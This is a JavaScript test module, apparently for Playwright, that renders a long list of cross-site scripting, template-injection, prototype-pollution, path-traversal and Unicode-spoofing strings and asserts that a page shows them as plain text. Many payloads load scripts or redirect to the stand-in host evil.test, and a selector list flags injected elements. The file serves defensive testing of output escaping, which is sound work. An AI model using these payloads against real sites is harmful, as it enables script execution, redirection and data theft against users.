// Strings that would run, hide or reorder something if a page ever took text for anything but text; and
// what a page is like that has shown them as the text they are.
import assert from "node:assert/strict";
import { until } from "./until.mjs";

/** Sets a flag that is looked for; what runs is proof enough. */
const RUN = "window.__ran=1";

export const HOSTILE = [
  // Elements that run something by being there.
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<script\t>${RUN}</script >`,
  `<script type=module>import("//evil.test/x.js")</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src="x"/onerror=${RUN}>`,
  `<img src='x' onerror='${RUN}' alt="`,
  `<image src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `'><svg/onload='${RUN}'>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<frameset onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<div popover id=p onbeforetoggle=${RUN}></div><button popovertarget=p>x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<video poster="javascript:${RUN}"></video>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<applet code="javascript:${RUN}"></applet>`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<x is=y onclick=${RUN} tabindex=0>x</x>`,
  // Addresses that run something, or lead elsewhere.
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java&#10;script:${RUN}">click</a>`,
  `<IMG SRC=&#106;avascript:${RUN}>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//%0a`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>opener.__ran=1</script>`,
  `vbscript:msgbox(1)`,
  `//evil.test/x`,
  `https://evil.test@127.0.0.1/`,
  `../../../../etc/passwd`,
  `?x=1&y=<script>${RUN}</script>#z`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<link rel=preload as=script href="//evil.test/x.js">`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`,
  `<base href="//evil.test/">`,
  `<form action=//evil.test><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<style>@import '//evil.test/x.css';</style>`,
  `<p style="background:url(//evil.test/x)">x</p>`,
  // Ends of what it might stand in.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `]]><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  "` onmouseover=`x",
  `";${RUN};//`,
  `'-(${RUN})-'`,
  `\\";${RUN};//`,
  // Languages of templates, and other ways to write the same.
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{"__proto__":{"isAdmin":true}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `=HYPERLINK("//evil.test","x")`,
  `__proto__`,
  `constructor`,
  // Characters that hide something, or put it elsewhere; and whatever is long.
  `a\u202Egnp.exe`,
  `\u2066hidden\u2069`,
  `a\u200Bb\uFEFFc`,
  `t\u{E0061}\u{E0062}ag`,
  `tab\there`,
  `line\nfeed`,
  `escape\u001b[31m`,
  `Z\u0351\u036b\u0343\u0328a\u0323\u0347l\u0353\u031ag\u0317o\u0300`,
  `😀👩‍👩‍👧 שלום سلام 日本`,
  `${"W".repeat(180)}`,
];

/**
 * What is left of a text without what is shown as a symbol or takes no room: it has to be read as it
 * was sent.
 */
const bare = (/** @type {string} */ text) => text.replace(/[\p{C}\u2028\u2029]/gu, "");

/** What can be read in a page, in bare letters; written so that it can be sent there. */
const READ = (/** @type {string} */ selector) =>
  [...document.querySelectorAll(selector)]
    .map((it) => {
      const copy = /** @type {Element} */ (it.cloneNode(true));
      for (const symbol of copy.querySelectorAll(".symbol")) symbol.remove();
      return `${copy.textContent}`.replace(/[\p{C}\u2028\u2029]/gu, "");
    })
    .join("\n");

/**
 * Waits until each of them can be read within what the selector finds, as it was sent.
 * @param {import("playwright-core").Page} page
 * @param {string} within
 * @param {readonly string[]} wanted
 */
export async function reads(page, within, wanted = HOSTILE) {
  let missing = [...wanted];
  const areThere = async () => {
    const text = await page.evaluate(READ, within);
    missing = wanted.filter((each) => !text.includes(bare(each)));
    return missing.length === 0;
  };
  await until(areThere).catch(() => {
    assert.deepEqual(missing, [], `cannot be read in ${within} of ${page.url()}`);
  });
}

/**
 * Goes from address to address as links do, without loading the page anew, and answers what could not
 * be read where it should be, and the titles that the pages had.
 * @param {import("playwright-core").Page} page
 * @param {readonly { path: string, within: string, text: string }[]} stops
 */
export async function visit(page, stops) {
  const wanted = stops.map((stop) => ({ ...stop, text: bare(stop.text) }));
  /** @type {{ missed: string[], titles: string[] }} */
  const found = await page.evaluate(`(${VISIT})(${JSON.stringify(wanted)}, ${READ})`);
  return found;
}

/**
 * Opens row after row, and answers those whose text could not be read in what opened.
 * @param {import("playwright-core").Page} page
 * @param {string} rows
 * @param {string} opened
 * @returns {Promise<string[]>}
 */
export async function openEach(page, rows, opened) {
  /** @type {string[]} */
  const missed = await page.evaluate(
    `(${OPEN})(${JSON.stringify(rows)}, ${JSON.stringify(opened)}, ${READ})`,
  );
  return missed;
}

const OPEN = async (
  /** @type {string} */ rows,
  /** @type {string} */ opened,
  /** @type {typeof READ} */ read,
) => {
  const FRAMES_MAX = 600;
  const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
  const missed = [];
  const texts = read(rows).split("\n");
  for (const [at, text] of texts.entries()) {
    /** @type {HTMLElement | undefined} */ ([...document.querySelectorAll(rows)].at(at))?.click();
    let frames = 0;
    for (; !read(opened).includes(text) && frames < FRAMES_MAX; frames += 1) await frame();
    if (frames === FRAMES_MAX) missed.push(text);
  }
  return missed;
};

const VISIT = async (
  /** @type {readonly { path: string, within: string, text: string }[]} */ stops,
  /** @type {typeof READ} */ read,
) => {
  const FRAMES_MAX = 600;
  const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
  const missed = [];
  const titles = [];
  for (const { path, within, text } of stops) {
    history.pushState({}, "", path);
    let frames = 0;
    for (; !read(within).includes(text) && frames < FRAMES_MAX; frames += 1) await frame();
    if (frames === FRAMES_MAX) missed.push(`${path}: ${read(within).slice(0, 300)}`);
    titles.push(document.title);
  }
  return { missed, titles };
};

/** Strangers' elements, and those of ours that are only as they should be. */
const STRANGERS = [
  "script:not([src^='/assets/'], [src='/theme.js'])",
  "img:not([src='/icon.svg'])",
  "link:not([href*='/assets/'], [href='/icon.svg']), link[href*='evil']",
  "meta[http-equiv], form[action], [style*='evil'], [style*='animation']",
  "iframe, frame, frameset, object, embed, applet, template, base, video, audio, math, marquee",
  "image, use, animate, foreignObject, [formaction], [popover], [srcdoc], [contenteditable]",
  "[is], .hostile :not(.symbol)",
].join(", ");

/**
 * Of a page that has shown them: nothing has run or become an element, and no link leads away.
 * @param {import("playwright-core").Page} page
 * @param {string} where
 */
export async function harmless(page, where) {
  const found = await page.evaluate((strangers) => {
    const said = (/** @type {Element} */ it) => it.outerHTML.slice(0, 200);
    const hasCode = (/** @type {Element} */ it) =>
      [...it.attributes].some(({ name }) => name.startsWith("on"));
    const leadsAway = (/** @type {Element} */ it) =>
      it instanceof HTMLAnchorElement && it.href !== "" && it.origin !== location.origin;
    const all = [...document.querySelectorAll("*")];
    return [
      ...("__ran" in window ? ["it ran"] : []),
      ...[...document.querySelectorAll(strangers)].map(said),
      ...all.filter((it) => hasCode(it) || leadsAway(it)).map(said),
    ];
  }, STRANGERS);
  assert.deepEqual(found, [], where);
}
